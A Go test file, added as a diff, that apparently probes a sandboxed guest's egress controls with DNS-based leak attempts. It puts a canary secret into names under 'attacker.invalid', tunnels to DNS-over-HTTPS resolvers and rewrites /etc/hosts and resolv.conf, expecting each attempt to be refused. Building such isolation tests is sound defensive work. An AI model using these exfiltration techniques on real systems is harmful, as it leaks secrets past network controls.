@@ -1,0 +1,103 @@
+package attack
+
+import (
+	"net/http"
+	"os"
+)
+
+func nameCases() []Case {
+	answers := func(p *prober) Try { return p.answers() }
+	const door = "the egress door answers on the alias"
+	listed := func(p *prober) Try { return p.twinOf(p.plan.Hosts.Listed) }
+	path := func(id, title, seed string) Case {
+		return Case{ID: id, Title: title, Class: Names, Seed: seed, Tier: Quick, Layer: "no resolver in the guest", Twin: door, paths: true, twin: answers}
+	}
+	return []Case{
+		{ID: "D01", Title: "a secret in a name, by the configured resolver", Class: Names, Seed: "4a", Tier: Quick, Layer: "no resolver in the guest",
+			Twin: door, run: resolveSecret, twin: answers},
+		{ID: "D02", Title: "a request to a name that carries data, where a proxy could resolve before it decides", Class: Names, Tier: Quick, Layer: byEgress,
+			Rules: []string{"no-route"}, Twin: door, run: askSecretName, twin: answers},
+		path("D03", "a question to a public resolver", "4b"),
+		path("D04", "the same over TCP", ""),
+		{ID: "D06", Title: "DNS over HTTPS to known resolvers", Class: Names, Tier: Quick, Layer: byEgress,
+			Rules: []string{"no-route", "bad-request"}, Twin: door, run: dnsOverHTTPS, twin: answers},
+		path("D07", "DNS over TLS and QUIC, mDNS, LLMNR, NetBIOS", ""),
+		{ID: "D08", Title: "data in the labels of a listed wildcard", Class: Names, Tier: Pending, Waits: "the scanning of requests (DLP)", Layer: "DLP"},
+		{ID: "D10", Title: "a listed host that leads to a private address", Class: Names, Tier: Pending, Waits: "a resolver of the suite's own: the door's tests run it",
+			Layer: "the check of addresses after resolving"},
+		{ID: "D13", Title: "hosts, resolv.conf and nsswitch.conf written anew in the guest", Class: Names, Tier: Full, Layer: "the door resolves on the host",
+			Twin: "the listed host is still the real one", run: rewriteNames, twin: listed},
+	}
+}
+
+func resolveSecret(p *prober) []Try {
+	name := p.canary + ".attacker.invalid"
+	return []Try{
+		call("resolve "+name, WantDenied, func() error { return resolve(name) }),
+		call("resolve a short name", WantDenied, func() error { return resolve(p.canary) }),
+		call("resolve host.docker.internal", WantDenied, func() error { return resolve("host.docker.internal") }),
+		call("resolve host.smolvm.internal", WantDenied, func() error { return resolve("host.smolvm.internal") }),
+	}
+}
+
+func askSecretName(p *prober) []Try {
+	name := p.canary + ".attacker.invalid"
+	return []Try{
+		try("GET http://"+name, WantDoor, func() (answer, error) { return say(p.egress(), absolute(name, "/", name)) }),
+		p.refusedTunnel(name+":443", name+":443"),
+	}
+}
+
+// absolute is a proxy's request for a plain http URL.
+func absolute(authority, path, host string, lines ...string) string {
+	all := ""
+	for _, l := range lines {
+		all += l
+	}
+	return "GET http://" + authority + path + " HTTP/1.1\r\nHost: " + host + "\r\n" + all + "Connection: close\r\n\r\n"
+}
+
+// refusedTunnel tries to open one, and to say something in it.
+func (p *prober) refusedTunnel(authority, host string) Try {
+	return try("CONNECT "+authority, WantDoor, func() (answer, error) {
+		c, a, err := p.tunnel(authority, host)
+		if c != nil {
+			c.Write([]byte(p.canary))
+			c.Close()
+		}
+		return a, err
+	})
+}
+
+func dnsOverHTTPS(p *prober) []Try {
+	var tries []Try
+	for _, host := range []string{"dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com", "dns.quad9.net", "8.8.8.8", "1.1.1.1"} {
+		tries = append(tries, p.refusedTunnel(host+":443", host+":443"))
+	}
+	return tries
+}
+
+func rewriteNames(p *prober) []Try {
+	var tries []Try
+	for path, text := range map[string]string{
+		"/etc/hosts":         "192.0.2.1 " + p.plan.Hosts.Listed + "\n",
+		"/etc/resolv.conf":   "nameserver 192.0.2.53\n",
+		"/etc/nsswitch.conf": "hosts: dns files\n",
+	} {
+		old, err := os.ReadFile(path)
+		tries = append(tries, call("write "+path, WantNothing, func() error { return os.WriteFile(path, []byte(text), 0o644) }))
+		if err == nil {
+			defer os.WriteFile(path, old, 0o644)
+		} else {
+			defer os.Remove(path)
+		}
+	}
+	tries = append(tries, try("the listed host is another's now", WantDenied, func() (answer, error) {
+		a, err := p.fetch(p.plan.Hosts.Listed, get(p.plan.Hosts.Listed, "/open/who"))
+		if err == nil && a.status == http.StatusOK {
+			return answer{}, errNothing // the stand-in answered: nothing was gained
+		}
+		return answer{}, err
+	}))
+	return tries
+}
